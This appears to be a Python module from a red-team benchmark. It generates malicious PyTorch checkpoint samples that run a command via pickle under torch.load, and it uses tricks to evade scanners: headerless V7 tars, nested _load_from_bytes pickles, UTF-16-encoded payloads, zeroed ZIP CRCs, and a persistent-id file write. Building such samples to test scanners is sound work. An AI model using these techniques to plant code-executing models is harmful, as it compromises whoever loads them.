"""PyTorch: torch.load(weights_only=False) on legacy tar files, stacked pickles and zips.

Read from torch/serialization.py: a real file at offset 0 is first tried as the
legacy *tar* format (`tarfile.open(mode='r:')`, members storages/tensors/pickle;
'storages' is unpickled first with the plain pickle module). tarfile reads old
V7 headers, which have no `ustar` magic. Zips go to PyTorchFileReader (miniz),
which names the archive after the first central-directory entry and reads
`<archive>/data.pkl`; miniz checks less than zipfile does.
`torch.storage._load_from_bytes` is torch.load on bytes embedded in a pickle.
"""

from __future__ import annotations

import pickle

from mlsecops.fixtures import torch_state_dict_pickle, torch_zip

from benchmarks.redteam.archives import tar_bytes, v7_tar
from benchmarks.redteam.pickles import PROTO2, b, call, glob2, s2, system_call, system_pickle
from benchmarks.redteam.sample import Sample

F = "torch"
MAGIC = 0x1950A86A20F9469CFC6C


def _legacy_members(storages: bytes) -> dict[str, bytes]:
    return {"storages": storages, "tensors": pickle.dumps(0, protocol=2), "pickle": pickle.dumps({}, protocol=2)}


def legacy_tar(storages: bytes) -> bytes:
    return v7_tar(_legacy_members(storages))


def legacy_stream(*pickles: bytes) -> bytes:
    return pickle.dumps(MAGIC, protocol=2) + b"".join(pickles)


def load_from_bytes(payload: bytes) -> bytes:
    return PROTO2 + call(glob2("torch.storage", "_load_from_bytes"), b(payload)) + b"."


def persid_dump_patches() -> bytes:
    """Legacy torch.load's persistent_load('module', cls, file, source) writes `<cls.__name__>.patch` when the
    source differs and `cls.dump_patches` is true. The pickle sets both on argparse.Namespace (allowlisted)
    with a BUILD whose target is numpy's scalar(dtype('O'), cls): an identity function, so the BUILD is not
    on an imported global."""
    identity = glob2("numpy._core.multiarray", "scalar") + b"(" + glob2("numpy", "dtype") + b"(" + s2("O8") + b"\x89\x88tR"
    cls = glob2("argparse", "Namespace")
    state = b"(N}(" + s2("__name__") + s2("pwned") + s2("dump_patches") + b"\x88ut"
    persid = b"(" + s2("module") + cls + s2("argparse.py") + s2("class Namespace: pass") + b"tQ"
    main = PROTO2 + identity + cls + b"tR" + state + b"b0" + persid + b"."
    sys_info = pickle.dumps({"protocol_version": 1001, "little_endian": True,
                             "type_sizes": {"short": 2, "int": 4, "long": 4}}, protocol=2)
    return legacy_stream(pickle.dumps(1001, protocol=2), sys_info, main)


def utf16_bytes_arg(payload: bytes) -> bytes:
    """`_codecs.encode(text, 'utf-16-le')`: the bytes exist only after the call (a reader that assumes latin-1,
    as protocol 2 writes bytes, computes different ones)."""
    if len(payload) % 2:
        payload += b"\0"
    text = payload.decode("utf-16-le")
    return call(glob2("_codecs", "encode"), s2(text), s2("utf-16-le"))


def _t(data: bytes, name: str = "model.pt") -> dict[str, bytes]:
    return {name: data}


def _crc_zero(data: bytes) -> bytes:
    """Zero every CRC-32 (local and central): zipfile raises, miniz in torch does not check stored members."""
    raw = bytearray(data)
    for sig, off in ((b"PK\x03\x04", 14), (b"PK\x01\x02", 16)):
        pos = raw.find(sig)
        while pos != -1:
            raw[pos + off:pos + off + 4] = b"\0\0\0\0"
            pos = raw.find(sig, pos + 4)
    return bytes(raw)


def _evil_zip() -> bytes:
    return torch_zip({"w": 4}, data_pkl=torch_state_dict_pickle({"w": 4}, extra=b"X\x04\x00\x00\x00hook" + system_call()))


SAMPLES = [
    Sample("torch_legacy_tar_v7", F, "torch.load", "process",
           "a legacy tar checkpoint whose headers have no 'ustar' magic: torch's tarfile.open reads it and unpickles "
           "'storages' first; a scanner that recognises tar by its magic sees a file starting with 'storages'",
           lambda: _t(legacy_tar(system_pickle())), fast=True),
    Sample("torch_legacy_tar_ustar", F, "torch.load", "process",
           "baseline: the same legacy tar with ustar headers",
           lambda: _t(tar_bytes(_legacy_members(system_pickle())))),
    Sample("torch_load_from_bytes_legacy_stack", F, "torch.load", "process",
           "torch.storage._load_from_bytes on an embedded legacy stream whose second pickle is the call "
           "(a scanner that judges the embedded checkpoint instead of the call must read it as torch does)",
           lambda: _t(load_from_bytes(legacy_stream(system_call() + b".")), "model.pkl"), fast=True),
    Sample("torch_load_from_bytes_zip", F, "torch.load", "process",
           "torch.storage._load_from_bytes on an embedded zip checkpoint with the call in data.pkl",
           lambda: _t(load_from_bytes(_evil_zip()), "model.pkl")),
    Sample("torch_legacy_persid_dump_patches", F, "torch.load", "file",
           "a legacy checkpoint's persistent id ('module', cls, file, source) makes torch write <cls.__name__>.patch; "
           "the pickle renames argparse.Namespace to 'pwned' and sets dump_patches with a BUILD on numpy's "
           "scalar(dtype('O'), cls), an identity, so no BUILD targets an imported global",
           lambda: _t(persid_dump_patches()), fast=True),
    Sample("torch_load_from_bytes_utf16", F, "torch.load", "process",
           "_load_from_bytes on bytes made by _codecs.encode(text, 'utf-16-le'): the checkpoint is not in the file as bytes",
           lambda: _t(PROTO2 + call(glob2("torch.storage", "_load_from_bytes"), utf16_bytes_arg(legacy_stream(system_call() + b"."))) + b".",
                      "model.pkl")),
    Sample("torch_zip_crc_zeroed", F, "torch.load", "process",
           "every CRC-32 zeroed: zipfile-based readers raise, torch (miniz) loads stored members unchecked",
           lambda: _t(_crc_zero(_evil_zip()))),
    Sample("torch_zip_baseline", F, "torch.load", "process", "baseline: the call in data.pkl of a torch.save zip",
           lambda: _t(_evil_zip())),
]
